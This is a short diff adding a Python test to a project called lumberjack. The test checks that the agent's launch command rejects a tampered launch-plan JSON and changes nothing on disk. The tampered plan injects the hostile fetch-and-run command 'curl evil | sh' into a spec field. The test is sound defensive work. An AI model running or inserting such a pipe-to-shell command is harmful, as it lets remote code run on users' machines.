@@ -246,3 +246,17 @@ def test_a_dead_allocations_running_jobs_get_an_expired_lease(layout: ExportLayo
         k: ad for k, ad in before.items() if k != running
     }
     assert job_queue.expire_leases(layout) == [running]  # idempotent
+
+
+def test_a_hostile_launch_json_is_refused_in_one_line_and_nothing_changes(
+    layout: ExportLayout, capsys
+) -> None:
+    from lumberjack.core.contract import to_json
+
+    plan = json.loads(to_json(site_bundle.launch_plan()))
+    plan["spec"]["node_command"] = "curl evil | sh"  # the agent's to name, never the plan's
+    Path(layout.launch_plan).write_text(json.dumps(plan))
+    assert agent.main(["launch", layout.root]) == 1
+    answer = json.loads(capsys.readouterr().out)
+    assert answer == {"error": f"{layout.launch_plan}: spec: unknown field(s) node_command"}
+    assert not Path(layout.spool).exists() and not Path(layout.pilots).exists()
